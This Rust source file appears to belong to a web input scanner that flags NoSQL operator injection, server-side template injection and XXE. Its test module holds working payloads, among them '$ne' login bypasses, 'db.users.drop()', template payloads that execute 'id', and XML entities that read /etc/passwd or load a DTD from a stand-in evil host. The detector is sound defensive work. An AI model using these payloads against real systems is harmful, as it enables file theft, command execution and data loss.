//! The smaller attack classes, each recognised by its markers: NoSQL operator injection,
//! server-side template injection, and XML external entities.
//!
//! - NoSQL: query operators where data belongs: `$`-keys in JSON (`{"password": {"$ne":
//!   ""}}`), `param[$ne]=` in query strings, code-running operators (`$where`,
//!   `$function`).
//! - Templates: an expression marker (`{{ }}`, `${ }`, `#{ }`, `*{ }`, `<%= %>`, `{% %}`)
//!   whose content computes or reaches into the runtime (arithmetic, dunder attributes,
//!   `T(java.lang.Runtime)`); a marker around a plain name weighs little.
//! - XXE: a document type that declares an external entity, or XInclude.
//!
//! Each is one forward pass over the value: linear.

use crate::needles::Needles;
use crate::sql::Hit;

/// MongoDB-style operators that turn a value into a condition.
const NOSQL_OPERATORS: &[&str] = &[
    "$ne",
    "$eq",
    "$gt",
    "$gte",
    "$lt",
    "$lte",
    "$in",
    "$nin",
    "$regex",
    "$exists",
    "$or",
    "$and",
    "$not",
    "$nor",
    "$type",
    "$size",
    "$all",
    "$elemmatch",
    "$options",
];
/// Operators that run code on the server.
const NOSQL_CODE: &[&str] = &["$where", "$function", "$accumulator", "$expr", "$eval"];

/// A JSON object key (or a bracketed query key) used as a NoSQL operator.
pub fn nosql_key(key: &str) -> Vec<Hit> {
    // Every operator starts with `$`.
    if !key.starts_with('$') {
        return Vec::new();
    }
    let lower = crate::lower_case(key);
    if NOSQL_CODE.contains(&&*lower) {
        vec![Hit {
            rule: "nosql.code_operator",
            score: 5,
        }]
    } else if NOSQL_OPERATORS.contains(&&*lower) {
        vec![Hit {
            rule: "nosql.operator_key",
            score: 5,
        }]
    } else {
        Vec::new()
    }
}

/// NoSQL operators written inside a value: `user[$ne]=x`, `{"$gt": ""}`, `$where`.
pub fn nosql(value: &str) -> Vec<Hit> {
    let lower = crate::lower_case(value);
    let mut hits = Vec::new();
    let mut from = 0;
    while let Some(p) = lower[from..].find('$') {
        let at = from + p;
        from = at + 1;
        let len = lower[at + 1..]
            .bytes()
            .take_while(u8::is_ascii_alphabetic)
            .count();
        let word = &lower[at..at + 1 + len];
        let before = lower[..at].bytes().next_back();
        let bracketed = before == Some(b'[') && lower.as_bytes().get(at + 1 + len) == Some(&b']');
        let quoted = matches!(before, Some(b'"' | b'\''))
            && lower.as_bytes().get(at + 1 + len) == before.as_ref();
        // `{ $where: ...}` or `, $or: [...]`: a key in JavaScript object syntax.
        let object_key = lower[..at]
            .trim_end()
            .bytes()
            .next_back()
            .is_none_or(|b| matches!(b, b'{' | b',' | b'\'' | b'"'))
            && lower[at + 1 + len..].trim_start().starts_with(':');
        let quoted = quoted || object_key;
        if NOSQL_CODE.contains(&word) && (bracketed || quoted) {
            hits.push(Hit {
                rule: "nosql.code_operator",
                score: 5,
            });
            break;
        }
        if NOSQL_OPERATORS.contains(&word) && (bracketed || quoted) {
            hits.push(Hit {
                rule: "nosql.operator_key",
                score: 5,
            });
            break;
        }
    }
    hits
}

/// MongoDB shell methods on a collection (`db.users.find(`, `db.x.insert(`).
const MONGO_METHODS: &[&str] = &[
    "find",
    "findone",
    "insert",
    "insertone",
    "insertmany",
    "update",
    "updateone",
    "updatemany",
    "remove",
    "deleteone",
    "deletemany",
    "drop",
    "aggregate",
    "mapreduce",
    "count",
    "distinct",
    "save",
    "renamecollection",
    "getcollection",
    "dropdatabase",
];

/// JavaScript statements in a value: the shape of code injected into `$where` or a
/// server-side `eval`.
const JS_STATEMENTS: &[&str] = &[
    "function(",
    "function (",
    "while(",
    "do{",
    "do {",
    "new date(",
    "this.",
    "=>",
    "sleep(",
    "return this",
    "return true",
    "return 1",
    "tojson(",
    "printjson(",
];

static JS_STATEMENT_NEEDLES: Needles = Needles::new(JS_STATEMENTS);

/// How many different [`JS_STATEMENTS`] occur in `lower`, from one pass.
fn statements(lower: &str) -> usize {
    let mut seen: Vec<&str> = Vec::new();
    JS_STATEMENT_NEEDLES.each(lower, |statement, _| {
        if !seen.contains(&statement) {
            seen.push(statement);
        }
        true
    });
    seen.len()
}

/// `var name =`, `let name =`, `const name =`: a declaration with its assignment.
fn declares(lower: &str) -> bool {
    ["var ", "let ", "const "].iter().any(|kw| {
        lower.match_indices(kw).any(|(at, _)| {
            let boundary = at == 0 || !lower.as_bytes()[at - 1].is_ascii_alphanumeric();
            let rest = &lower[at + kw.len()..];
            let name = rest
                .bytes()
                .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'$'))
                .count();
            boundary && name > 0 && {
                let after = rest[name..].trim_start();
                after.starts_with('=') && !after.starts_with("==")
            }
        })
    })
}

/// MongoDB shell calls and server-side JavaScript: `db.users.drop()`,
/// `;var d = new Date(); do{...}while(...)`.
pub fn nosql_code(value: &str) -> Vec<Hit> {
    let lower = crate::lower_case(value);
    let mut hits = Vec::new();
    let mut from = 0;
    while let Some(p) = lower[from..].find("db.") {
        let at = from + p;
        from = at + 3;
        if at > 0 && lower.as_bytes()[at - 1].is_ascii_alphanumeric() {
            continue;
        }
        let rest = &lower[at + 3..];
        let coll = rest
            .bytes()
            .take_while(|b| b.is_ascii_alphanumeric() || *b == b'_')
            .count();
        let method_part = rest[coll..].strip_prefix('.').unwrap_or("");
        let method: String = method_part
            .chars()
            .take_while(char::is_ascii_alphabetic)
            .collect();
        let call = method_part[method.len()..].trim_start().starts_with('(');
        if coll > 0 && call && MONGO_METHODS.contains(&method.as_str()) {
            hits.push(Hit {
                rule: "nosql.shell_command",
                score: 5,
            });
            break;
        }
    }
    // Statements only count where code separates them.
    if lower.contains([';', '{']) && statements(&lower) + usize::from(declares(&lower)) >= 2 {
        hits.push(Hit {
            rule: "nosql.javascript",
            score: 5,
        });
    }
    hits
}

/// Names that reach into a template engine's runtime.
const RUNTIME: &[&str] = &[
    "__class__",
    "__globals__",
    "__builtins__",
    "__init__",
    "__subclasses__",
    "__mro__",
    "__import__",
    "config",
    "self.",
    "request.",
    "runtime",
    "getruntime",
    "popen",
    "exec(",
    "system(",
    "t(java",
    "lipsum",
    "cycler",
    "joiner",
    "namespace",
    "process.",
    "require(",
    "constructor",
    "getclass",
    "forname",
    "freemarker",
    "velocity",
];

/// Template engines' ways to the runtime: FreeMarker's `?new()` and Execute, Velocity's
/// class tools, Jinja's imports.
static TEMPLATE_RUNTIME_NEEDLES: Needles = Needles::new(&[
    "?new(",
    "freemarker.template.utility",
    "$class.inspect",
    "$class.type",
    ".getclass().forname",
    "{% import",
    "{%import",
    "__import__(",
    "lipsum.__globals__",
    "cycler.__init__",
    "self._templatereference",
]);

/// Server-side template injection markers.
pub fn ssti(value: &str) -> Vec<Hit> {
    let lower = crate::lower_case(value);
    let mut best = 0;
    for (open, close) in [
        ("{{", "}}"),
        ("${", "}"),
        ("#{", "}"),
        ("*{", "}"),
        ("<%=", "%>"),
        ("{%", "%}"),
        ("@(", ")"),
    ] {
        // Every opener starts with a byte most text lacks: no search without it.
        if !open
            .bytes()
            .next()
            .is_some_and(|b| lower.as_bytes().contains(&b))
        {
            continue;
        }
        let mut from = 0;
        while let Some(p) = lower[from..].find(open) {
            let start = from + p + open.len();
            from = start;
            // At most 256 bytes of expression are looked at.
            let window = &lower[start..(start + 256).min(lower.len())];
            let window = &window[..floor_boundary(window, window.len())];
            let Some(end) = window.find(close) else {
                continue;
            };
            let content = window[..end].trim();
            let computes = content.as_bytes().windows(3).any(|w| {
                w[0].is_ascii_digit()
                    && matches!(w[1], b'*' | b'+' | b'-' | b'/')
                    && w[2].is_ascii_digit()
            });
            let score = if computes || RUNTIME.iter().any(|r| content.contains(r)) {
                5
            } else if !content.is_empty() && open != "${" && open != "@(" {
                1
            } else {
                0
            };
            best = best.max(score);
        }
    }
    if memchr::memchr(b'#', lower.as_bytes()).is_some()
        && (lower.contains("<#assign") || lower.contains("#set(") || lower.contains("<#include"))
    {
        best = best.max(4);
    }
    if TEMPLATE_RUNTIME_NEEDLES.any(&lower) {
        best = best.max(5);
    }
    match best {
        0 => Vec::new(),
        score => vec![Hit {
            rule: "ssti.expression",
            score,
        }],
    }
}

fn floor_boundary(s: &str, mut at: usize) -> usize {
    while at > 0 && !s.is_char_boundary(at) {
        at -= 1;
    }
    at
}

/// XML external entities and XInclude.
pub fn xxe(value: &str) -> Vec<Hit> {
    // Declarations start with `<`; XInclude is a namespace prefix, with its `:`.
    if memchr::memchr2(b'<', b':', value.as_bytes()).is_none() {
        return Vec::new();
    }
    let lower = crate::lower_case(value);
    let mut hits = Vec::new();
    if let Some(p) = lower.find("<!entity") {
        let rest = &lower[p..];
        let external = rest.contains(" system") || rest.contains(" public");
        hits.push(Hit {
            rule: if external {
                "xxe.external_entity"
            } else {
                "xxe.entity"
            },
            score: if external { 5 } else { 3 },
        });
    } else if lower.contains("<!doctype")
        && (lower.contains(" system") || lower.contains(" public"))
        && lower.contains("://")
    {
        hits.push(Hit {
            rule: "xxe.external_dtd",
            score: 4,
        });
    }
    if lower.contains("xi:include") || lower.contains("xmlns:xi=") {
        // An include element that names what to include blocks; the namespace alone scores.
        let element = lower.match_indices("<xi:include").any(|(at, _)| {
            lower[at..]
                .split('>')
                .next()
                .is_some_and(|tag| tag.contains("href"))
        });
        hits.push(Hit {
            rule: "xxe.xinclude",
            score: if element { 5 } else { 4 },
        });
    }
    // A schema the parser is told to fetch from elsewhere: an out-of-band probe when the
    // parser validates (level 2; SOAP documents name schemas on purpose).
    if lower.match_indices("schemalocation").any(|(at, _)| {
        let rest = &lower[at..];
        let value = rest.split(['>']).next().unwrap_or(rest);
        value.contains("http://") || value.contains("https://") || value.contains("ftp://")
    }) {
        hits.push(Hit {
            rule: "xxe.remote_schema",
            score: 5,
        });
    }
    hits
}

#[cfg(test)]
mod tests {
    use super::*;

    fn total(hits: Vec<Hit>) -> u32 {
        hits.iter().map(|h| h.score).sum()
    }

    #[test]
    fn nosql_operators_where_data_belongs() {
        assert_eq!(total(nosql_key("$ne")), 5);
        assert_eq!(total(nosql_key("$where")), 5);
        assert_eq!(total(nosql_key("price")), 0);
        assert_eq!(total(nosql_key("$")), 0);
        for attack in [
            "username[$ne]=x",
            "{\"password\": {\"$gt\": \"\"}}",
            "login[$regex]=^adm",
            "{\"$where\": \"sleep(5000)\"}",
            "true, $where: '99 == 88'",
            "', $or: [ {}, { 'a':'a",
        ] {
            assert!(total(nosql(attack)) >= 5, "{attack:?}");
        }
        for attack in [
            "db.users.drop()",
            "x'; db.accounts.find({})",
            ";var d = new Date(); do{c = new Date();}while(c-d<10000)",
            "function() { return this.a == 1 }; sleep(500)",
        ] {
            assert!(total(nosql_code(attack)) >= 5, "{attack:?}");
        }
        for text in [
            "the db.json file",
            "let me know; we can meet",
            "mydb.users.find(x)",
            "for (each) day; return soon",
        ] {
            assert!(
                total(nosql_code(text)) < 5,
                "{text:?}: {:?}",
                nosql_code(text)
            );
        }
        for text in [
            "costs $5",
            "$ne is an operator name",
            "pay in $USD",
            "[$]",
            "\"$100\"",
        ] {
            assert!(total(nosql(text)) < 5, "{text:?}");
        }
    }

    #[test]
    fn template_expressions_that_compute_or_reach_the_runtime() {
        for attack in [
            "{{7*7}}",
            "${7*7}",
            "#{7*7}",
            "<%= 7*7 %>",
            "{{''.__class__.__mro__[1].__subclasses__()}}",
            "{{config.items()}}",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "{% import os %}{{ os.popen('id').read() }}",
            "<#assign ex=\"freemarker.template.utility.Execute\"?new()>",
        ] {
            assert!(total(ssti(attack)) >= 4, "{attack:?}: {:?}", ssti(attack));
        }
        for text in [
            "Hello {{name}}",
            "costs ${price}",
            "a { b } c",
            "use {{ and }} in docs",
            "x = 7*7",
        ] {
            assert!(total(ssti(text)) < 4, "{text:?}: {:?}", ssti(text));
        }
    }

    #[test]
    fn external_entities_and_xinclude() {
        for attack in [
            "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
            "<!DOCTYPE r [<!ENTITY % p PUBLIC \"x\" \"http://evil.example/p.dtd\"> %p;]>",
            "<r xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"/etc/passwd\"/></r>",
        ] {
            assert!(total(xxe(attack)) >= 4, "{attack:?}");
        }
        let include = "<acp xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"http://x.example/f\"/></acp>";
        assert!(
            total(xxe(include)) >= 5,
            "an include element with href blocks"
        );
        let schema = "<a xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"http://a.b/ http://probe.example/a.xsd\">a</a>";
        assert!(xxe(schema).iter().any(|h| h.rule == "xxe.remote_schema"));
        assert_eq!(
            crate::rules::find("xxe.remote_schema").map(|r| r.level),
            Some(2)
        );
        for text in [
            "<r><a>1</a></r>",
            "<!DOCTYPE html><html></html>",
            "the entity system",
        ] {
            assert!(total(xxe(text)) < 4, "{text:?}");
        }
    }

    #[test]
    fn time_is_linear_in_the_input() {
        for unit in ["{{", "${", "$ne", "[$ne", "<!entity", "<%="] {
            let long = unit.repeat(50_000);
            let _ = (nosql(&long), ssti(&long), xxe(&long));
        }
    }
}
